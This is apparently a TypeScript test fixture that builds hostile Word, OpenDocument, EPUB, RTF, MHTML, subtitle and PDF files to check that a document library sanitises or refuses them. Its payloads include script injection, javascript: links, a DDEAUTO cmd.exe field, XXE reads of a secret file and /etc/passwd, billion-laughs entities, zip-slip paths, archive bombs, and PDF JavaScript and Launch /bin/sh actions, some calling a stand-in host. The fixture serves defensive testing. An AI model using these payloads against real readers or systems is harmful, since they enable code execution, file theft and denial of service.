import { docxOf, epubOf, odtOf, wordParagraph, wordPicture, zipOf } from './officefiles.ts'
import { pdfLine, pdfOf, pdfStream } from './pdffile.ts'

/** A file that was made to do harm, and what must become of it. */
export interface HostileFile {
	readonly name: string
	readonly content: string | Uint8Array
	/** Words of its title in the library; null: it must be refused. */
	readonly opens: string | null
}

/** Every word of a file that nobody may see. */
export const forbidden = ['owned', 'SECRET', 'root:x:', 'slipped']

/**
 * Files of many formats, each with all that its format can try: scripts, handlers, actions, macros, fields,
 * things to load from elsewhere, names that lead out of an archive, entities without end. What can be opened
 * says "is harmless".
 * @param elsewhere an address where nothing answers
 * @param secret the path of a file outside the library that holds the word SECRET
 */
export function hostileFiles(elsewhere: string, secret: string): readonly HostileFile[] {
	return [
		{ name: 'word.docx', content: word(elsewhere), opens: 'Word & more' },
		{ name: 'entities.docx', content: entities(secret), opens: null },
		{ name: 'writer.odt', content: writer(elsewhere), opens: 'Writer' },
		{ name: 'external.odt', content: external(secret), opens: null },
		{ name: 'book.epub', content: book(elsewhere), opens: 'Book' },
		{ name: 'slip.epub', content: slip(), opens: null },
		{ name: 'nested.epub', content: nested(), opens: 'Nested' },
		{ name: 'bomb.epub', content: bomb(), opens: null },
		{ name: 'rich.rtf', content: rich(elsewhere), opens: 'rich.rtf is harmless' },
		{
			name: 'deep.rtf',
			content: `{\\rtf1 Deep is harmless ${'{\\b '.repeat(50_000)}`,
			opens: 'Deep is harmless',
		},
		{ name: 'archive.mhtml', content: webArchive(elsewhere), opens: 'Web archive' },
		{ name: 'cues.vtt', content: subtitles(elsewhere), opens: 'cues' },
		{ name: 'actions.pdf', content: actions(elsewhere), opens: 'Actions' },
		{ name: 'circle.pdf', content: circle(), opens: 'This circle is harmless' },
	]
}

/** A picture that would run scripts and load things, were it opened as a page. */
const svg = (elsewhere: string) =>
	`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="window.owned='svg'"><script>window.owned = 'svg'; fetch('${elsewhere}/svg')</script><style>@import url(${elsewhere}/svg.css); rect { fill: url(${elsewhere}/fill.svg#a) }</style><rect width="40" height="40" fill="teal"/><image xlink:href="${elsewhere}/svg.png" width="9" height="9"/><use xlink:href="${elsewhere}/use.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/frame"/></foreignObject><a xlink:href="javascript:window.owned='svg link'"><text y="20">svg</text></a><animate onbegin="window.owned='animate'" attributeName="x" dur="1s"/></svg>`

const word = (elsewhere: string) =>
	docxOf({
		title: 'Word &amp; more &lt;img src=x onerror=&quot;window.owned=1&quot;&gt;',
		targets: {
			link: ['hyperlink', `javascript:window.owned='docx'`, true],
			file: ['hyperlink', 'file:///etc/passwd', true],
			away: ['image', `${elsewhere}/docx.png`, true],
			drawn: ['image', 'media/drawn.svg', false],
			chunk: ['aFChunk', 'chunk.html', false],
			up: ['image', '../../../../etc/passwd', false],
			settings: ['settings', 'settings.xml', false],
			macros: ['vbaProject', 'vbaProject.bin', false],
		},
		parts: {
			'word/media/drawn.svg': svg(elsewhere),
			'word/chunk.html': `<script>window.owned = 'chunk'</script><img src="${elsewhere}/chunk.png"><p>A chunk.</p>`,
			'word/settings.xml':
				'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="t"/></w:settings>',
			'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${elsewhere}/template.dotm" TargetMode="External"/></Relationships>`,
			'word/vbaProject.bin': 'no program',
		},
		body: [
			wordParagraph('This Word document is harmless. &lt;script&gt;alert(1)&lt;/script&gt;'),
			'<w:p><w:hyperlink r:id="link"><w:r><w:t>A link</w:t></w:r></w:hyperlink><w:hyperlink r:id="file"><w:r><w:t> and a file</w:t></w:r></w:hyperlink></w:p>',
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>A field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
			`<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;${elsewhere}/field.png&quot;"><w:r><w:t>Another field</w:t></w:r></w:fldSimple></w:p>`,
			wordPicture('link', 'away'),
			wordPicture('embed', 'drawn'),
			wordPicture('embed', 'up'),
			'<w:altChunk r:id="chunk"/>',
		].join(''),
	})

/** A word that stands for ten of another, ten times over. */
const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}`

const entities = (secret: string) =>
	docxOf({
		title: 'Entities',
		doctype: `${laughs}<!ENTITY secret SYSTEM "file://${secret}">]>`,
		body: wordParagraph('Entities &a12; &secret;'),
	})

const writer = (elsewhere: string) =>
	odtOf(
		'Writer',
		`<text:p>This OpenDocument text is harmless. &lt;img src=x onerror=alert(1)&gt;</text:p>
		<text:p><text:a xlink:href="javascript:window.owned='odt link'">A link</text:a></text:p>
		<text:p><draw:frame><draw:image xlink:href="${elsewhere}/odt.png" xlink:actuate="onLoad"/></draw:frame>
		<draw:frame><draw:image xlink:href="Pictures/drawn.svg"/></draw:frame>
		<draw:frame><draw:image xlink:href="../../../../etc/passwd"/></draw:frame>
		<draw:frame><draw:object xlink:href="${elsewhere}/object"/></draw:frame>
		<draw:frame><draw:floating-frame xlink:href="${elsewhere}/frame"/></draw:frame></text:p>
		<text:section text:name="s"><text:section-source xlink:href="${elsewhere}/section.odt"/><text:p>A section.</text:p></text:section>`,
		{ 'Pictures/drawn.svg': svg(elsewhere), 'Basic/Standard/script.xml': '<x/>' },
	)

const external = (secret: string) =>
	odtOf(
		'External',
		'<text:p>External &secret;</text:p>',
		{},
		`<!DOCTYPE x [<!ENTITY secret SYSTEM "file://${secret}"><!ENTITY % more SYSTEM "http://127.0.0.1:9/x.dtd"> %more;]>`,
	)

const book = (elsewhere: string) =>
	epubOf({
		title: 'Book',
		chapter: `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/pi.css"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>c</title><link rel="stylesheet" href="${elsewhere}/book.css"/><link rel="stylesheet" href="s.css"/><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"/><base href="${elsewhere}/"/><script src="s.js"></script><script>window.owned = 'epub'</script></head><body onload="window.owned='onload'"><h1>Chapter</h1><p onclick="window.owned='onclick'">This book is harmless.</p><p><a href="javascript:window.owned='epub link'">A link</a>, <a href="data:text/html,x">another</a></p><p><img src="${elsewhere}/book.png" alt="away"/><img src="drawn.svg" alt="drawn"/><img src="../../../../../etc/passwd" alt="up"/></p><svg xmlns="http://www.w3.org/2000/svg" onload="window.owned='svg'"><script>window.owned='svg'</script><image href="${elsewhere}/inline.png"/></svg><iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object><audio src="${elsewhere}/a.mp3" autoplay=""></audio><epub:switch id="x"><epub:case required-namespace="x"><p>case</p></epub:case></epub:switch><form action="${elsewhere}/form"><input autofocus="" onfocus="window.owned='focus'"/></form></body></html>`,
		files: {
			'drawn.svg': ['image/svg+xml', svg(elsewhere)],
			's.css': [
				'text/css',
				`@import url(${elsewhere}/import.css); @font-face { src: url(${elsewhere}/font.woff) }`,
			],
			's.js': ['application/javascript', `window.owned = 'file'; fetch('${elsewhere}/js')`],
		},
		contents: `<li><a href="javascript:window.owned='contents'">Run</a></li><li><a href="${elsewhere}/contents">Away</a></li><li><a href="c.xhtml">Chapter</a></li>`,
	})

const plainChapter = (words: string) =>
	`<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title></head><body><p>${words}</p></body></html>`

const slip = () =>
	epubOf({
		title: 'Slip',
		chapter: plainChapter('A book that leads out of itself.'),
		parts: {
			'../../../slipped.txt': 'slipped',
			'..\\..\\slipped.txt': 'slipped',
			'/tmp/slipped.txt': 'slipped',
		},
	})

/** Archives inside each other: nobody asked for what is in them. */
const nested = () => {
	let inner = zipOf({ 'slipped.txt': 'slipped' })
	for (let depth = 0; depth < 30; depth++) inner = zipOf({ 'a.zip': inner, 'b.zip': inner.slice(0, 10) })
	return epubOf({
		title: 'Nested',
		chapter: plainChapter('This nest is harmless.'),
		parts: { 'a.zip': inner },
	})
}

/** A chapter that unpacks to a thousand times its size. */
const bomb = () => epubOf({ title: 'Bomb', chapter: plainChapter('ha '.repeat(16_000_000)) })

const rich = (elsewhere: string) =>
	String.raw`{\rtf1\ansi{\*\template ${elsewhere}/template.dot}{\info{\title <script>alert(1)</script> rich.rtf is harmless}}
This rich text is harmless. {\field{\*\fldinst HYPERLINK "javascript:window.owned='rtf'"}{\fldrslt A link}}\par
{\field{\*\fldinst INCLUDEPICTURE "${elsewhere}/rtf.png"}{\fldrslt A picture}}\par
{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105000002000000}{\result An object}}\par
{\pict\wmetafile8\bin4 abcd}{\pict\pngblip\bin99999999 x}\par The end.}`

const webArchive = (elsewhere: string) =>
	[
		'From: <Saved by nobody>',
		'Subject: Web archive',
		'MIME-Version: 1.0',
		'Content-Type: multipart/related; type="text/html"; boundary="BOUND"',
		'',
		'--BOUND',
		'Content-Type: text/html; charset=utf-8',
		`Content-Location: ${elsewhere}/page.html`,
		'',
		`<!doctype html><html><head><title>Web archive</title><script>window.owned='mhtml'</script><link rel=stylesheet href="${elsewhere}/m.css"></head><body onload="window.owned='onload'"><article><h1>Web archive</h1><p>This archive is harmless.</p><p><img src="cid:p@x"><img src="${elsewhere}/m.png"><img src="drawn.svg"><a href="javascript:window.owned=1">A link</a></p><iframe src="cid:f@x"></iframe></article></body></html>`,
		'--BOUND',
		'Content-Type: image/svg+xml',
		`Content-Location: ${elsewhere}/drawn.svg`,
		'',
		svg(elsewhere),
		'--BOUND',
		'Content-Type: text/html',
		'Content-ID: <f@x>',
		'',
		"<script>parent.owned='frame'</script>",
		'--BOUND--',
		'',
	].join('\r\n')

const subtitles = (elsewhere: string) =>
	`WEBVTT\n\nSTYLE\n::cue { background: url(${elsewhere}/cue.png) }\n\n00:00.000 --> 00:02.000\n<v <script>alert(1)</script>>This film is harmless.</v> <img src=x onerror="alert(1)">\n`

const page = (rest: string) =>
	`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${rest} >>`
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'

const actions = (elsewhere: string) => {
	const script = `/S /JavaScript /JS (app.alert\\("owned"\\); this.submitForm\\("${elsewhere}/js"\\); window.owned = 'pdf')`
	const box = (at: number) => `/Rect [50 ${at} 350 ${at + 20}] /Border [0 0 1]`
	const annotations = [
		`<< /Type /Annot /Subtype /Link ${box(300)} /A << /S /URI /URI (javascript:window.owned='uri') >> >>`,
		`<< /Type /Annot /Subtype /Link ${box(270)} /A << ${script} >> >>`,
		`<< /Type /Annot /Subtype /Link ${box(240)} /A << /S /Launch /F (/bin/sh) /Win << /F (calc.exe) >> >> >>`,
		`<< /Type /Annot /Subtype /Link ${box(210)} /A << /S /GoToR /F (${elsewhere}/other.pdf) /D [0 /Fit] >> >>`,
		`<< /Type /Annot /Subtype /Link ${box(180)} /A << /S /ImportData /F (/etc/passwd) >> >>`,
		`<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (<img src=x onerror=alert\\(1\\)>) ${box(150)} /AA << /E << ${script} >> /Fo << ${script} >> >> >>`,
		`<< /Type /Annot /Subtype /Text ${box(120)} /T (<b>Me</b>) /Contents (A note that is harmless <script>alert\\(1\\)</script>) >>`,
		`<< /Type /Annot /Subtype /RichMedia ${box(90)} /RichMediaContent << >> >>`,
	]
	return pdfOf([
		`<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >> /AcroForm << /Fields [] /XFA (<xdp><script>window.owned='xfa'</script></xdp>) >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (../../slipped.txt) /EF << /F 6 0 R >> >>] >> >> /URI << /Base (${elsewhere}/) >> >>`,
		pages,
		page(`/AA << /O << ${script} >> >> /Annots [${annotations.join(' ')}]`),
		pdfStream(pdfLine('Actions', 50, 360) + pdfLine('This PDF is harmless.', 50, 330)),
		font,
		pdfStream('slipped'),
	])
}

/** Pages that hold themselves, a drawing that draws itself, a contents entry that follows itself. */
const circle = () =>
	pdfOf([
		'<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>',
		'<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>',
		'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> /Contents 4 0 R >>',
		pdfStream(`${pdfLine('This circle is harmless.', 50, 330)} /X Do`),
		font,
		pdfStream(
			'/X Do',
			'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
		),
		'<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>',
		'<< /Title (Round) /Parent 7 0 R /Next 8 0 R /First 8 0 R /Dest [3 0 R /Fit] >>',
	])
